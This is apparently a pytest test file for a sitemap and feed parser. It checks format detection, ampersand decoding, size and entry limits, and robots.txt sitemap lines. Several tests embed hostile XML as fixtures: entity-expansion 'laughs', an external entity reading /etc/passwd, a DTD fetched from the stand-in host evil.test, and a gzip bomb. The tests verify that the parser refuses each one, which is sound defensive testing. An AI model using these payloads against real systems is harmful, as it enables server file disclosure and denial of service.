"""Sitemaps: every form that sites use, and files made to do harm."""

import gzip
from datetime import UTC, datetime

import pytest

from penstock.core.urls import parse
from penstock.extract.page.sitemap import (
    MAX_NESTING,
    PIECE,
    Sitemap,
    SitemapReader,
    read_sitemap,
    sitemaps_in_robots,
)

BASE = parse("https://shop.test/maps/sitemap.xml")
SITEMAP_0_9 = 'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"'


def urlset(*entries: str, attributes: str = SITEMAP_0_9) -> bytes:
    urls = "".join(f"<url>{entry}</url>" for entry in entries)
    return f'<?xml version="1.0"?><urlset {attributes}>{urls}</urlset>'.encode()


def urls_of(sitemap: Sitemap) -> list[str]:
    return [entry.url.href for entry in sitemap.entries]


def reason_of(sitemap: Sitemap) -> str | None:
    return sitemap.failure.reason if sitemap.failure else None


ONE = urlset("<loc>https://shop.test/a</loc>")
RSS = b"""<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"><channel>
<link>https://shop.test/</link><atom:link href="https://shop.test/feed"/>
<item><link>https://shop.test/a</link><pubDate>Tue, 03 Feb 2026 04:05:06 GMT</pubDate></item>
</channel></rss>"""
ATOM = b"""<feed xmlns="http://www.w3.org/2005/Atom"><link href="https://shop.test/"/><entry>
<link rel="edit" href="https://shop.test/edit"/><link href="/a"/><title>A</title>
<updated>2026-02-03T04:05:06Z</updated></entry></feed>"""


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        (ONE, "urlset"),
        (gzip.compress(ONE), "urlset"),
        (b"\xef\xbb\xbf\n  " + ONE, "urlset"),
        (urlset("<loc>https://shop.test/a</loc>", attributes=""), "urlset"),
        (urlset("<loc>\n <![CDATA[https://shop.test/a]]> </loc>"), "urlset"),
        (ONE.decode().replace("?>", ' encoding="utf-16"?>').encode("utf-16"), "urlset"),
        (RSS, "rss"),
        (ATOM, "feed"),
        (b"\xef\xbb\xbfhttps://shop.test/a\r\n", "text"),
        (b"# ours\n\nhttps://shop.test/a", "text"),
    ],
)
def test_form_of_a_file_is_seen_by_its_content(body: bytes, kind: str) -> None:
    sitemap = read_sitemap(body, BASE)

    assert (sitemap.kind, urls_of(sitemap)) == (kind, ["https://shop.test/a"])
    assert sitemap.failure is None


@pytest.mark.parametrize("body", [RSS, ATOM], ids=["rss", "atom"])
def test_dates_of_feeds_are_kept(body: bytes) -> None:
    (entry,) = read_sitemap(body, BASE).entries

    assert entry.lastmod is not None
    assert entry.lastmod.first == datetime(2026, 2, 3, 4, 5, 6, tzinfo=UTC)


def test_index_names_files_and_no_pages() -> None:
    body = f"""<sitemapindex {SITEMAP_0_9}><sitemap><loc>https://shop.test/1.xml.gz</loc>
    <lastmod>2026-02-03</lastmod></sitemap></sitemapindex>""".encode()

    sitemap = read_sitemap(body, BASE)

    assert sitemap.entries == ()
    (child,) = sitemap.children
    assert child.url.href == "https://shop.test/1.xml.gz"
    assert child.lastmod is not None
    assert child.lastmod.first == datetime(2026, 2, 3, tzinfo=UTC)


def test_image_is_no_page() -> None:
    attributes = f'{SITEMAP_0_9} xmlns:image="http://www.google.com/schemas/sitemap-image/1.1"'
    image = "<image:loc>https://shop.test/a.png</image:loc>"
    body = urlset(
        f"<image:image>{image}</image:image>{image}<loc>https://shop.test/a</loc>",
        attributes=attributes,
    )

    assert urls_of(read_sitemap(body, BASE)) == ["https://shop.test/a"]


@pytest.mark.parametrize(
    ("loc", "query"),
    [
        ("https://shop.test/?a=1&amp;b=2", "?a=1&b=2"),
        ("https://shop.test/?a=1&b=2", "?a=1&b=2"),
        ("https://shop.test/?a=1&amp;amp;b=2", "?a=1&b=2"),
        ("<![CDATA[https://shop.test/?a=1&b=2]]>", "?a=1&b=2"),
        ("https://shop.test/?a=&#49;", "?a=1"),
    ],
)
def test_ampersand_is_read_however_it_was_written(loc: str, query: str) -> None:
    assert urls_of(read_sitemap(urlset(f"<loc>{loc}</loc>"), BASE)) == [
        f"https://shop.test/{query}"
    ]


def test_reference_cut_by_the_end_of_a_piece_stays_whole() -> None:
    """Wherever the piece ends, be it in the middle of `&#38;`, the URL is the same."""
    loc = "<loc>https://shop.test/?a=1&#38;b=2&c=3</loc>"
    start = len(urlset("").partition(b"</url>")[0])
    for shift in range(20, 50):
        padding = f"<!--{'x' * (PIECE - start - len('<!---->') - shift)}-->"

        found = urls_of(read_sitemap(urlset(padding + loc), BASE))

        assert found == ["https://shop.test/?a=1&b=2&c=3"], shift


@pytest.mark.parametrize("loc", ["", "hello world", "mailto:a@shop.test", "x" * 9000, "//"])
def test_what_is_no_url_is_counted_and_left_out(loc: str) -> None:
    sitemap = read_sitemap(urlset(f"<loc>{loc}</loc>", "<loc>/b</loc>"), BASE)

    assert urls_of(sitemap) == ["https://shop.test/b"]
    assert sitemap.unusable == 1


def test_too_long_line_of_a_list_is_left_out() -> None:
    body = b"https://shop.test/" + b"x" * 3 * PIECE + b"\nhttps://shop.test/b\n"

    sitemap = read_sitemap(body, BASE)

    assert (urls_of(sitemap), sitemap.unusable) == (["https://shop.test/b"], 1)


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"", "not_a_sitemap"),
        (b" \n\t", "not_a_sitemap"),
        (b"<!doctype html><html><body>Nothing</body></html>", "not_a_sitemap"),
        (b"hello\nworld\n", "not_a_sitemap"),
        (b"\x00\x01\x02\x03", "not_a_sitemap"),
        (b"<urlset><url>", "bad_xml"),
        (b"<urlset>" + b"<a>" * (MAX_NESTING + 1), "bad_xml"),
        (b'<?xml version="1.0" encoding="x-unheard-of"?><urlset/>', "not_a_sitemap"),
        (gzip.compress(ONE)[:-20], "bad_encoding"),
        (b"\x1f\x8bnot gzip at all", "bad_encoding"),
    ],
)
def test_what_is_no_sitemap_says_why(body: bytes, reason: str) -> None:
    assert reason_of(read_sitemap(body, BASE)) == reason


def test_what_stands_before_the_damage_is_kept() -> None:
    sitemap = read_sitemap(ONE.replace(b"</urlset>", b"<url><loc>https://shop.test/b"), BASE)

    assert urls_of(sitemap) == ["https://shop.test/a"]
    assert reason_of(sitemap) == "bad_xml"


@pytest.mark.parametrize(
    "subset",
    [
        '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://evil.test/a.dtd"> %a;',
    ],
    ids=["laughs", "file", "parameter"],
)
def test_file_with_entities_of_its_own_is_refused(subset: str) -> None:
    body = (
        f"<!DOCTYPE urlset [{subset}]><urlset><url><loc>https://shop.test/&a;</loc></url></urlset>"
    )

    sitemap = read_sitemap(body.encode(), BASE)

    assert sitemap.entries == ()
    assert sitemap.failure is not None
    assert sitemap.failure.detail == "it declares entities of its own"


def test_document_type_elsewhere_is_not_looked_up() -> None:
    body = b'<!DOCTYPE urlset SYSTEM "http://evil.test/a.dtd">' + ONE.partition(b"?>")[2]

    assert urls_of(read_sitemap(body, BASE)) == ["https://shop.test/a"]


def test_bomb_is_not_unpacked_further_than_allowed() -> None:
    bomb = gzip.compress(b"<urlset>" + b" " * 20_000_000)

    sitemap = read_sitemap(bomb, BASE, max_bytes=1_000_000)

    assert reason_of(sitemap) == "too_large"
    assert sitemap.bytes_read <= 1_000_000


def test_plain_file_that_is_too_large_is_refused_unread() -> None:
    sitemap = read_sitemap(ONE, BASE, max_bytes=len(ONE) - 1)

    assert (reason_of(sitemap), sitemap.bytes_read) == ("too_large", 0)
    assert read_sitemap(ONE, BASE, max_bytes=len(ONE)).failure is None


def test_more_urls_than_allowed_are_cut_off() -> None:
    body = urlset(*(f"<loc>/{number}</loc>" for number in range(4)))

    sitemap = read_sitemap(body, BASE, max_entries=3)

    assert (len(sitemap.entries), reason_of(sitemap)) == (3, "too_many_urls")
    assert read_sitemap(body, BASE, max_entries=4).failure is None


def test_large_file_is_read_in_pieces() -> None:
    body = urlset(*(f"<loc>https://shop.test/{number:0100}</loc>" for number in range(5000)))
    reader = SitemapReader(BASE)

    turns = sum(1 for _ in reader.read(body))

    assert turns == len(body) // PIECE + 1
    assert len(reader.result.entries) == 5000


def test_sitemaps_in_robots_stand_anywhere_and_count_once() -> None:
    text = (
        "Sitemap: https://shop.test/1.xml\r\nUser-agent: *\rDisallow: /cart\n"
        "sitemap :  /2.xml # ours\n# Sitemap: /3.xml\nSITEMAP: https://shop.test/1.xml\n"
        "Sitemap: ftp://shop.test/4.xml\n"
    )

    found = [url.href for url in sitemaps_in_robots(text, BASE)]

    assert found == ["https://shop.test/1.xml", "https://shop.test/2.xml"]
